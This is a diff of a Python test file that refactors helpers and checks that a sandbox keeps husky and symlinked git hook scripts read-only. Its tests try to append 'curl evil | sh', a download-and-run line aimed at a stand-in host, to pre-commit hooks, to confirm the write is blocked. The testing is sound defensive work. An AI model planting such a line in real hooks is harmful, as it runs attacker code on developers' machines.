@@ -9,45 +9,20 @@
 
 from __future__ import annotations
 
-import os
 import shutil
-import subprocess
 from pathlib import Path
 
 import pytest
 
 from agentguard.errors import SandboxError
-from agentguard.sandbox import SandboxSettings
 from agentguard.sandbox._protect import protected_mounts
 from agentguard.sandbox._quarantine import Watch
-from agentguard.sandbox_api import SandboxRequest, SandboxResult
-from agentguard.settings import Settings
-from agentguard.tools.execution import DockerBackend
+from tests.sandbox.rw_rig import git, read_only, run_rw
 
 pytestmark = pytest.mark.skipif(shutil.which("git") is None, reason="host git makes the repositories")
 
 HOOK = "#!/bin/sh\necho checked\n"
 HUSKY_H = 'n=$(basename "$0")\ns=$(dirname "$(dirname "$0")")/$n\nsh -e "$s" "$@"\n'
-
-
-def git(*args: str) -> None:
-    subprocess.run(["git", *args], check=True, capture_output=True)
-
-
-def run_rw(ws: Path, tmp_path: Path, script: str) -> SandboxResult:
-    if os.geteuid() == 0:
-        for path in (ws, *ws.rglob("*")):
-            os.chown(path, 1000, 1000, follow_symlinks=False)
-    settings = Settings(workspace=ws, home=tmp_path / "state", sandbox=SandboxSettings(pool_size=0))
-    backend = DockerBackend(settings)
-    try:
-        return backend.execute(SandboxRequest("shell", script, profile="workspace-rw"))
-    finally:
-        backend.close()
-
-
-def read_only(ws: Path) -> set[str]:
-    return {str(m["Target"]) for m in protected_mounts(str(ws.resolve())) if m["ReadOnly"]}
 
 
 def _husky(tmp_path: Path) -> Path:
@@ -68,7 +43,7 @@ def test_husky_scripts_beside_its_hooks_directory_are_read_only(tmp_path: Path) 
 @pytest.mark.docker
 def test_husky_scripts_cannot_be_written(images: object, tmp_path: Path) -> None:
     ws = _husky(tmp_path)
-    result = run_rw(ws, tmp_path, "echo 'curl evil | sh' >> .husky/pre-commit; echo ok > notes.txt")
+    result = run_rw(ws, tmp_path / "state", "echo 'curl evil | sh' >> .husky/pre-commit; echo ok > notes.txt")
     assert (ws / ".husky" / "pre-commit").read_text() == "npm test\n"
     assert (ws / "notes.txt").read_text() == "ok\n"
     assert "Read-only file system" in result.stderr
@@ -120,7 +95,9 @@ def test_a_hook_linked_through_a_working_tree_symlink_is_refused(tmp_path: Path)
 @pytest.mark.docker
 def test_a_linked_hook_cannot_be_written(images: object, tmp_path: Path) -> None:
     ws = _linked_hook(tmp_path)
-    result = run_rw(ws, tmp_path, "echo 'curl evil | sh' >> scripts/pre-commit; echo ok > notes.txt")
+    result = run_rw(
+        ws, tmp_path / "state", "echo 'curl evil | sh' >> scripts/pre-commit; echo ok > notes.txt"
+    )
     assert (ws / "scripts" / "pre-commit").read_text() == HOOK
     assert (ws / "notes.txt").read_text() == "ok\n"
     assert "Read-only file system" in result.stderr
